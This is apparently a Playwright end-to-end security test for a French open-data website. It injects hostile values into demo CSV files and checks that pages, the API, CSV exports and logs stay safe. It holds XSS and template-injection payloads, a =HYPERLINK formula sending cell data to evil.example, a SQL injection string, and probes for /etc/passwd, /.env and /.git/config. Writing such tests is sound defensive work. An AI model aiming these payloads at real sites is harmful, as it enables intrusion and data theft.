import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import { expect, test } from "./fixtures";
import { ownFolder, startOwnServer, stopOwnServers, type OwnServer } from "./support/own-server";

/** An edition written by someone who means harm: in its names, addresses, codes, and where people are named. */
const CANARY = "canari.prive@exemple-cache.fr";
const HOSTILE = [
  `<img src=x onerror="window.tripped=1">`,
  `"><script>window.tripped=2</script>`,
  `=HYPERLINK("https://evil.example/?"&A1,"cliquez")`,
  `{{constructor.constructor('window.tripped=3')()}}`,
  `[lien](javascript:window.tripped=4)`,
  `</script><svg onload=window.tripped=5>`,
  `\u202eEMMORP ${"a".repeat(300)}`,
  `${CANARY} service open data`,
];
const ADDRESSES = [
  "javascript:window.tripped=6",
  "data:text/html,<script>window.tripped=7</script>",
  `https://exemple.fr/"onmouseover="window.tripped=8`,
  `mailto:${CANARY}`,
];

let server: OwnServer;
let folder: string;
const sirens: string[] = [];

test.beforeAll(async () => {
  folder = ownFolder();
  const spoil = (name: string, change: (rows: Record<string, string>[]) => void, delimiter: string) => {
    const file = join(folder, "editions", "demo", name);
    const rows = parse(readFileSync(file), {
      columns: true,
      bom: true,
      delimiter,
      group_columns_by_name: false,
    });
    change(rows as Record<string, string>[]);
    writeFileSync(file, stringify(rows, { header: true, delimiter }));
  };
  spoil(
    "organisations.csv",
    (rows) => {
      HOSTILE.forEach((name, index) => {
        const row = rows[index * 3 + 1]!;
        sirens.push(row.siren!);
        row.nom = name;
        row["url-ptf"] = ADDRESSES[index % ADDRESSES.length]!;
        row.ptf = name.replaceAll(",", " ");
      });
    },
    ",",
  );
  spoil(
    "plateformes.csv",
    (rows) => {
      HOSTILE.forEach((name, index) => {
        const row = rows[index * 3 + 1]!;
        row.Nom = name;
        row.contact = CANARY;
        row.url = ADDRESSES[index % ADDRESSES.length]!;
        row.grappe = `grappe ${CANARY}`;
      });
    },
    ";",
  );
  server = await startOwnServer({ LOG_LEVEL: "debug" }, folder);
});
test.afterAll(stopOwnServers);

const API = [
  "",
  "/organisations",
  "/platforms",
  "/quality",
  "/bound-authorities",
  "/indicators",
  "/schema",
  "/search?q=a",
];
const FORMATS = ["json", "csv", "ndjson", "geojson"];

/** Addresses to ask: those of the site map and the API, and whatever they lead to. */
async function everything(): Promise<string[]> {
  const map = await (await fetch(`${server.url}/sitemap.xml`)).text();
  const pages = [...map.matchAll(/<loc>([^<]+)<\/loc>/g)].map(([, found]) => new URL(found!).pathname);
  const few = pages.filter(
    (path, index) => !/\/(organisations|plateformes)\/./.test(path) || index % 60 === 0,
  );
  const own = sirens.flatMap((siren) => ["", "/en"].map((locale) => `${locale}/organisations/${siren}`));
  const v1 = "/api/v1/editions/demo";
  return [
    ...few,
    ...own,
    ...own.flatMap((path) => [`${path}.md`, `${path}.json`]),
    "/organisations?sort=name&page_size=500",
    "/plateformes?page_size=500",
    "/donnees/qualite?page_size=500",
    "/recherche?q=window",
    `/recherche?q=${encodeURIComponent(HOSTILE[0]!)}`,
    `/organisations?q=${encodeURIComponent(HOSTILE[1]!)}`,
    "/?constructor=1",
    "/organisations?__proto__=1",
    "/nulle-part/<script>",
    `/organisations/${encodeURIComponent("<svg onload=1>")}`,
    ...API.map((path) => v1 + path),
    ...["organisations", "platforms", "quality"].flatMap((list) =>
      FORMATS.map((format) => `${v1}/${list}?format=${format}${format === "json" ? "&page_size=500" : ""}`),
    ),
    `${v1}/files/organisations.csv`,
    `${v1}/files/plateformes.csv`,
    `${v1}/organisations?__proto__=1`,
    `${v1}/organisations?constructor[name]=1`,
    `${v1}/organisations?q=%00`,
    `${v1}/organisations?q=${"x".repeat(5_000)}`,
    `${v1}/organisations?sort=${encodeURIComponent("name;DROP TABLE organisation")}`,
    `${v1}/..%2f..%2f..%2fetc%2fpasswd`,
    ...[
      "/llms.txt",
      "/robots.txt",
      "/sitemap.xml",
      "/manifest.webmanifest",
      "/journal.atom",
      "/journal.json",
    ],
    ...[
      "/api/openapi.json",
      "/api/v1/dcat.ttl",
      "/api/v1/dcat.jsonld",
      "/api/health/ready",
      "/api/health/live",
    ],
    ...[
      "/api/oembed?url=x",
      "/embed/indicateurs/by-type",
      "/connexion",
      "/signaler?cible=edition",
      "/_next/nothing.js",
    ],
    ...["/api/mcp", "/api/metrics", "/.env", "/.git/config", "/package.json", "/..%2f.env"],
  ];
}

const WAYS: readonly [string, Record<string, string>][] = [
  ["", {}],
  ["as the router asks", { RSC: "1" }],
  ["ahead of need", { RSC: "1", "Next-Router-Prefetch": "1", "Next-Router-Segment-Prefetch": "/_tree" }],
];

const INSIDES =
  /node_modules|webpack-internal|\n\s+at .+:\d+:\d+|(Binder|Parser|Catalog) Error:|SQLITE_[A-Z]/;
const RAW = /<img src=x|<svg onload|<script>window\.tripped/;

test("whatever is asked, and however: guarded, without personal data, without the server's insides", async () => {
  const faults: string[] = [];
  const addresses = await everything();
  expect(addresses.length).toBeGreaterThan(150);
  for (const address of addresses)
    for (const [way, headers] of address.startsWith("/api") ? WAYS.slice(0, 1) : WAYS) {
      const answer = await fetch(server.url + address, { headers, redirect: "manual" });
      const body = await answer.text();
      const place = `${address.slice(0, 120)} ${way}`;
      const wrong = (what: string) => faults.push(`${place}: ${what}`);
      if (answer.status >= 500) wrong(`status ${answer.status}`);
      const of = (name: string) => answer.headers.get(name) ?? "";
      if (of("x-content-type-options") !== "nosniff") wrong("no nosniff");
      if (!of("referrer-policy")) wrong("no referrer policy");
      // Next's own redirect of a route that has no parts to give: there is nothing in it to guard.
      if (answer.status === 307 && body === "") continue;
      const policy = of("content-security-policy");
      if (!/default-src '(self|none)'/.test(policy)) wrong("no content policy");
      const framing = /default-src 'none'/.test(policy) ? "frame-ancestors 'none'" : policy;
      if (!/frame-ancestors ('none'|\*)/.test(framing)) wrong("may be framed");
      if (of("x-powered-by") || of("server")) wrong("says what it runs on");
      if (body.includes(CANARY) || body.includes(CANARY.replace("@", "%40")) || body.includes("canari.prive"))
        wrong("personal data");
      if (INSIDES.test(body)) wrong("insides");
      if (body.includes(folder)) wrong("a folder of the server");
      if (/text\/html/.test(of("content-type")) && RAW.test(body)) wrong("words of a file as HTML");
    }
  expect(faults).toEqual([]);
});

test("nothing that a file holds runs, on any page that shows it", async ({ browser }) => {
  const page = await (await browser.newContext()).newPage();
  const told: string[] = [];
  page.on("console", (message) => ["error", "warning"].includes(message.type()) && told.push(message.text()));
  page.on("dialog", (dialog) => void dialog.dismiss().then(() => told.push("a dialog")));
  for (const path of [
    "/organisations?sort=name&page_size=100&columns=name,local_url,platforms",
    `/organisations/${sirens[0]}`,
    `/organisations/${sirens[2]}`,
    `/en/organisations/${sirens[4]}`,
    `/organisations/comparer?siren=${sirens.slice(0, 4).join()}`,
    "/plateformes?page_size=100",
    "/donnees",
    "/donnees/qualite?page_size=100",
    "/recherche?q=window",
  ]) {
    await page.goto(server.url + path);
    await page.waitForTimeout(200);
    expect(await page.evaluate(() => (window as { tripped?: number }).tripped), path).toBeUndefined();
    const links = await page
      .locator("a")
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol));
    expect(
      links.filter((protocol) => !/^https?:$/.test(protocol)),
      path,
    ).toEqual([]);
  }
  expect(told).toEqual([]);
  await page.context().close();
});

test("spreadsheets are given texts, not formulas; numbers stay numbers", async () => {
  const api = `${server.url}/api/v1/editions/demo/organisations`;
  const csv = parse(await (await fetch(`${api}?format=csv&columns=name,longitude`)).text()) as string[][];
  const cells = csv.flat();
  expect(cells.some((cell) => cell.startsWith("'=HYPERLINK"))).toBe(true);
  expect(cells.filter((cell) => /^[=+@\t\r]|^-(?!\d)/.test(cell))).toEqual([]);
  expect(
    cells.some((cell) => /^-\d/.test(cell)),
    "a longitude west of Greenwich",
  ).toBe(true);
});

test("the log is one JSON line an event, without personal data, whatever was asked", async () => {
  for (const path of [
    "/%0a%7b%22level%22%3a%22forged%22%7d",
    `/recherche?q=${CANARY}`,
    "/\u001b[31m",
    `/${"y".repeat(4_000)}`,
  ])
    await fetch(server.url + path, {
      headers: { "User-Agent": `x${CANARY}`, "X-Request-Id": `a"\\n${CANARY}` },
    });
  const lines = server.lines();
  expect(lines.length).toBeGreaterThanOrEqual(4);
  for (const line of lines) {
    const event = JSON.parse(line) as { level?: string };
    expect(event.level).toMatch(/^(debug|info|warn|error)$/);
    expect(line).not.toContain("canari.prive");
    expect(line.length).toBeLessThan(4_000);
  }
});
